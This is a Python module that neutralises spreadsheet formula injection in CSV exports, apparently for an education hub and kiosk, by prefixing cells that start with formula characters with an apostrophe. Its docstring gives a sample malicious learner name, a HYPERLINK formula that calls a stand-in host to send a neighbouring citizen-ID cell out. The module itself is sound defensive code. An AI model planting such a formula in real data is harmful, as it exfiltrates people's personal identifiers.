"""Tables for spreadsheets that never run what people typed (CSV and XLSX exports).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken
by Excel or LibreOffice as a formula: a learner named ``=HYPERLINK("http://x/?"&E2)``
would send the next column (a citizen ID) to a stranger's site on one click. In CSV such
text gets a leading apostrophe; in XLSX it is written as a text cell (``quotePrefix``).
The hub's exports and the kiosk's own reports both write through here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """Whether a spreadsheet would read this text as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: object) -> object:
    """The value, with a leading apostrophe when it is text that reads as a formula."""
    return "'" + value if isinstance(value, str) and looks_like_formula(value) else value


def csv_bytes(header: Sequence[object], rows: Iterable[Sequence[object]]) -> bytes:
    """UTF-8 with a byte-order mark (Excel shows Vietnamese letters right), CRLF lines."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([csv_cell(value) for value in header])
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")
